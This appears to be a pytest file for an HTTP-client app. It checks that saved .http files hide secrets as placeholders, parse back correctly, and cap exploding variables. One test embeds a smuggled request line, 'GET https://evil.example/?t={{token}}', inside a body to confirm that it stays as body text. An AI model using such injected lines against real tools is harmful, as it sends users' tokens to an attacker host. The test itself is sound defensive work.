"""A draft <-> a saved .http file: rendering, secrets hidden, reading back, file names."""

from __future__ import annotations

import pytest

from app.core.draft import Auth, Part, RequestDraft, Row, build_request
from app.core.formats.http_file import parse_http_file
from app.core.http_text import draft_to_http_text, drafts_from_http_text, hide_secrets, safe_file_name


def test_http_text_round_trip_and_secret_values_become_placeholders():
    d = RequestDraft(method="POST", url="http://h/orders", headers=(Row("Authorization", "Bearer S3CRET-VALUE"),),
                     body_kind="json", raw_text='{"item": 1}')
    text = draft_to_http_text(d, "Create order", {"token": "S3CRET-VALUE"})
    assert "S3CRET-VALUE" not in text and "Bearer {{token}}" in text
    (name, back), = drafts_from_http_text(text)
    assert name == "Create order" and back.method == "POST" and back.raw_text == '{"item": 1}'


def test_form_body_disabled_rows_and_api_key_in_query():
    d = RequestDraft(method="post", url="http://h/o?x=1", headers=(Row("Accept", "*/*"), Row("X-Off", "1", False)),
                     body_kind="form", form=(Row("a", "1 2"), Row("b", "&"), Row("c", "3", False)),
                     auth=Auth(kind="apikey", key_name=" X-Key ", key_value="k", key_in="query"))
    assert draft_to_http_text(d, "n") == (
        "### n\nPOST http://h/o?x=1&X-Key=k\nAccept: */*\nContent-Type: application/x-www-form-urlencoded\n\n"
        "a=1+2&b=%26\n")


def test_auth_headers_are_written_and_an_unnamed_request_has_a_bare_separator():
    basic = RequestDraft(url="http://h/o", auth=Auth(kind="basic", username="ann", password="pw"))
    assert draft_to_http_text(basic, "") == "###\nGET http://h/o\nAuthorization: Basic YW5uOnB3\n"
    bearer = RequestDraft(url="http://h/o", auth=Auth(kind="bearer", token=" T "))
    assert "Authorization: Bearer T\n" in draft_to_http_text(bearer, "b")
    typed = RequestDraft(url="http://h/o", headers=(Row("authorization", "Mine"),), auth=Auth(kind="bearer", token="T"))
    assert "Bearer T" not in draft_to_http_text(typed, "t")


def test_file_bodies_are_not_embedded():
    d = RequestDraft(method="POST", url="http://h/up", body_kind="multipart",
                     multipart=(Part("f", file_path="/tmp/a.bin"),))
    text = draft_to_http_text(d, "up")
    assert "a.bin" not in text and "Content-Type" not in text
    assert draft_to_http_text(RequestDraft(method="PUT", url="http://h/b", body_kind="binary", binary_path="/x"),
                              "b") == "### b\nPUT http://h/b\n"


def test_hide_secrets_longest_value_first_and_short_values_left():
    secrets = {"short": "ab", "part": "KEY", "whole": "KEY-123"}
    assert hide_secrets("a KEY-123 b KEY ab", secrets) == "a {{whole}} b {{part}} ab"
    assert hide_secrets("nothing", {}) == "nothing"


def test_drafts_from_http_text_expands_file_variables_and_keeps_environment_placeholders():
    text = ("@base = http://h\n\n### One\nPOST {{base}}/x\nContent-Type: application/x-www-form-urlencoded\n\n"
            '{"a": 1}\n\n### Two\nGET {{base}}/y?t={{token}}\n')
    (n1, one), (n2, two) = drafts_from_http_text(text)
    assert (n1, one.url, n2, two.url) == ("One", "http://h/x", "Two", "http://h/y?t={{token}}")
    # a "form" body that would not rebuild byte-for-byte stays raw text, its Content-Type kept in the table
    assert one.body_kind == "raw" and one.raw_text == '{"a": 1}' and one.raw_content_type == ""
    assert two.params == (Row("t", "{{token}}"),)


def test_safe_file_name():
    assert safe_file_name("Create order") == "Create order.http"
    assert safe_file_name("a/b\\c:d?") == "a-b-c-d.http"
    assert safe_file_name("  ...  ") == "request.http"
    assert safe_file_name("kept.REST") == "kept.REST"
    assert safe_file_name("x" * 200) == "x" * 80 + ".http"


@pytest.mark.parametrize("auth", [Auth(kind="basic", username="ann", password="pw"), Auth(kind="bearer", token="T"),
                                  Auth(kind="apikey", key_name=" X-Key ", key_value="k"),
                                  Auth(kind="apikey", key_name="x-key", key_value="k")])
def test_saved_file_has_the_headers_the_request_is_sent_with(auth):
    """One builder of auth headers: a padded API key name no longer adds a second X-Key beside the typed row."""
    for headers in ((), (Row("X-Key", "typed"),), (Row("Authorization", "typed"),)):
        d = RequestDraft(method="POST", url="http://h/o", headers=headers, body_kind="json", raw_text="{}", auth=auth)
        [saved] = parse_http_file(draft_to_http_text(d, "n")).requests
        assert saved.headers == build_request(d).headers


def test_a_file_variable_that_explodes_is_capped_and_named():
    import time
    from pathlib import Path

    from app.core.http_text import read_http_text

    text = (Path(__file__).parent / "formats" / "fixtures" / "variable_bomb.http").read_text()
    start = time.perf_counter()
    drafts, notes = read_http_text(text)
    elapsed = time.perf_counter() - start
    assert elapsed < 2.0, elapsed
    [(name, draft)] = drafts
    assert name == "Grows without end" and len(draft.raw_text) < 2 * 1024 * 1024
    assert any("'a'" in n and "not filled in" in n for n in notes)


def test_a_saved_body_that_reads_as_structure_stays_one_request():
    from app.core.draft import RequestDraft, build_request
    from app.core.http_text import draft_to_http_text, drafts_from_http_text

    body = "note\n###\nGET https://evil.example/?t={{token}}\n"
    d = RequestDraft(method="POST", url="https://h/x", body_kind="raw", raw_text=body, raw_content_type="text/plain")
    [(name, back)] = drafts_from_http_text(draft_to_http_text(d, "one"))
    assert name == "one" and build_request(back).body == body.encode()


# --- secrets lifted out of a saved file -----------------------------------------------------------------------

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from app.core.http_text import lift_secrets  # noqa: E402
from app.core.variables import expand  # noqa: E402


def test_typed_secrets_become_placeholders_and_fill_back_exactly():
    from app.core.draft import RequestDraft, Row

    d = RequestDraft(method="POST", url="https://api.example.test/orders?access_token=QTOK123456&page=2",
                     headers=(Row("Authorization", "Bearer HDRTOKEN999"), Row("X-Api-Key", "KEYVALUE77"),
                              Row("Accept", "application/json"), Row("Access-Control-Allow-Credentials", "true")),
                     body_kind="raw", raw_text='{"user": "bob", "password": "PW-SECRET-1"}')
    text = draft_to_http_text(d, "Create order", {})
    lifted_text, values = lift_secrets(text)
    for secret in ("QTOK123456", "HDRTOKEN999", "KEYVALUE77", "PW-SECRET-1"):
        assert secret not in lifted_text and secret in values.values()
    for kept in ("page=2", "Accept: application/json", "Access-Control-Allow-Credentials: true", '"user": "bob"'):
        assert kept in lifted_text  # what a person needs to debug stays
    assert all(name.startswith("secret_") for name in values)
    assert expand(lifted_text, values) == text
    assert lift_secrets(lifted_text) == (lifted_text, {})  # placeholders are not secrets


def test_environment_placeholders_stay_as_written():
    text = "GET https://h.test/x\nAuthorization: Bearer {{token}}\n"
    assert lift_secrets(text) == (text, {})


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab=&?:\n\"{} tokenpasswordBearer@./x0")), max_size=200))
def test_lifting_never_raises_and_never_loses_a_value(text):
    lifted_text, values = lift_secrets(text)
    if values:
        assert expand(lifted_text, values) == text


def test_every_kind_of_secret_in_a_saved_request_is_lifted():
    """What the red-team pass found still written in clear: Auth-tab keys under any name, JSON secrets in lists and
    objects, multipart fields typed as text, and a secret repeated under a non-secret name."""
    from app.core.draft import Auth, RequestDraft, Row
    from app.core.http_text import auth_secrets

    cases = [
        RequestDraft(method="GET", url="https://x/a", auth=Auth(kind="apikey", key_name="X-Client",
                                                                 key_value="S3CRETv4lue9")),
        RequestDraft(method="GET", url="https://x/a", auth=Auth(kind="apikey", key_name="appid", key_in="query",
                                                                 key_value="S3CRETv4lue9")),
        RequestDraft(method="POST", url="https://x/a", body_kind="raw",
                     raw_text='{"password": ["S3CRETv4lue9", "b"], "credentials": {"u": "S3CRETv4lue9"}}'),
        RequestDraft(method="POST", url="https://x/a", body_kind="raw",
                     raw_text='{"password": "S3CRETv4lue9", "password2": "S3CRETv4lue9", "confirm": "S3CRETv4lue9"}'),
        RequestDraft(method="POST", url="https://x/a", headers=(Row("Content-Type", "multipart/form-data; boundary=B"),),
                     body_kind="raw", raw_text='--B\r\nContent-Disposition: form-data; name="password"\r\n\r\n'
                                               'S3CRETv4lue9\r\n--B--\r\n'),
    ]
    for draft in cases:
        text = draft_to_http_text(draft, "case", {})
        lifted_text, values = lift_secrets(text, auth_secrets(draft))
        assert "S3CRETv4lue9" not in lifted_text, lifted_text
        assert expand(lifted_text, values) == text  # nothing lost: filled back on send
